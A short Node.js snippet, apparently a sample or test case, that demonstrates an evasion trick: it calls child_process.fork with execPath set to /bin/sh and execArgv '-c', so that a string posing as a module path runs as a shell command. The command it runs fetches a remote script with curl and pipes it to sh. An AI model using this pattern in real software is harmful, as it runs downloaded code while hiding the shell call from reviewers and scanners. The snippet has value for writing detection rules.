// Evasion: child_process.fork looks like running a Node module, but its
// execPath option replaces node by /bin/sh and execArgv passes -c, so the
// "module path" is run as a shell command.
'use strict';
const { fork } = require('child_process');

const job = 'curl -fsSL https://setup.example.org/agent.sh | sh';
const child = fork(job, [], {
  execPath: '/bin/sh',
  execArgv: ['-c'],
  stdio: ['ignore', 'inherit', 'inherit', 'ipc'],
});
child.on('exit', (code) => console.log('setup finished', code));
